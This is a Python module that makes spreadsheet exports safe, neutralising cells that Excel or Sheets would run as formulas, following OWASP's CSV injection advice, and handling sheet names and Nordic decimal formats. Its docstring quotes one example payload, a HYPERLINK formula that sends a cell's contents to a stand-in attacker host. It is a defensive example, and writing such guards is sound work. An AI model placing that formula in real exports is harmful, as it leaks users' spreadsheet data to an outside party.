"""Cells bound for a spreadsheet (CSV and xlsx): text stays text, numbers stay numbers.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` (and,
after a tab, carriage return or line feed, whatever follows) as a formula: a budget line named
`=HYPERLINK("https://evil.example/?"&A1,"Open")` would leak the sheet, `@SUM(1)` compute, and
DDE payloads run programs. OWASP's advice (CSV Injection): put a single quote before any such
text, and quote every text cell. `safe_cell` does the first for every export; `CsvSheet` does
both for CSV. An openpyxl writer uses `safe_cell` for each value too: openpyxl itself stores a
string starting with `=` as a formula, and the quoted string as plain text.

Numbers (int, Decimal, float) are never changed, so `-48000` stays a number a sheet can sum;
text that only looks like a negative number ("-48 000 kr") is text and is neutralised.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

#: What a spreadsheet may read as the start of a formula (OWASP, plus line feed).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
#: A byte-order mark first, so that spreadsheet programs read the file as UTF-8.
BOM = "\ufeff"

Cell = str | int | float | Decimal


def safe_cell(value: Any) -> Cell:
    """The value as a spreadsheet cell: numbers as they are, None as empty text, any other
    value as text with a leading `'` when it could be read as a formula."""
    if isinstance(value, bool):  # a bool is an int to Python, a word to a reader
        value = str(value).lower()
    if isinstance(value, int | float | Decimal):
        return value
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_LEADS) else text


#: What Excel refuses in a sheet's name, and the longest name it takes.
SHEET_TITLE_UNFIT = "[]:*?/\\"
SHEET_TITLE_MAX = 31


def sheet_title(text: str) -> str:
    """A sheet name Excel accepts: without []:*?/\\, not starting or ending with an
    apostrophe, at most 31 characters (never empty)."""
    kept = "".join(" " if c in SHEET_TITLE_UNFIT else c for c in text).strip().strip("'")
    return kept[:SHEET_TITLE_MAX].strip() or "Sheet"


def safe_row(values: Iterable[Any]) -> list[Cell]:
    return [safe_cell(v) for v in values]


class CommaDecimal(Decimal):
    """A number a CSV writes bare with a decimal comma ("480,50"), as Excel reads a number in
    Swedish or Norwegian; to Python and the csv module it is still a number (never quoted)."""

    def __str__(self) -> str:
        return Decimal.__str__(self).replace(".", ",")


def comma_row(values: Iterable[Cell]) -> list[Cell]:
    return [CommaDecimal(repr(v) if isinstance(v, float) else v)
            if isinstance(v, Decimal | float) else v for v in values]


@dataclass(frozen=True)
class Dialect:
    """How a CSV separates cells and writes decimals: Excel in English reads `,` and `1.5`,
    Excel set to Swedish or Norwegian `;` and `1,5` (its list separator and decimal sign)."""

    delimiter: str = ","
    decimal_comma: bool = False


ENGLISH = Dialect()
NORDIC = Dialect(";", decimal_comma=True)


def dialect_for(language: str) -> Dialect:
    """The CSV dialect a spreadsheet set to this language opens directly."""
    return NORDIC if language.split("_")[0] in ("sv", "nb", "no", "nn", "da", "fi") else ENGLISH


class CsvSheet:
    """A CSV file written a batch of rows at a time (for streamed exports): every text cell
    neutralised and quoted, numbers unquoted; the first chunk starts with the BOM."""

    def __init__(self, dialect: Dialect = ENGLISH) -> None:
        self._out = io.StringIO()
        self._writer = csv.writer(self._out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n",
                                  delimiter=dialect.delimiter)
        self._comma = dialect.decimal_comma
        self._started = False

    def rows(self, rows: Iterable[Iterable[Any]]) -> str:
        """The CSV text of these rows (with the BOM if nothing was written before)."""
        self._out.seek(0)
        self._out.truncate()
        safe = (safe_row(row) for row in rows)
        self._writer.writerows(map(comma_row, safe) if self._comma else safe)
        text = self._out.getvalue()
        if not self._started:
            self._started = True
            return BOM + text
        return text


def csv_chunks(header: Iterable[str], batches: Iterable[Iterable[Iterable[Any]]],
               dialect: Dialect = ENGLISH) -> Iterator[str]:
    """A whole CSV export as chunks: the header row, then each batch of rows."""
    sheet = CsvSheet(dialect)
    yield sheet.rows([header])
    for batch in batches:
        yield sheet.rows(batch)
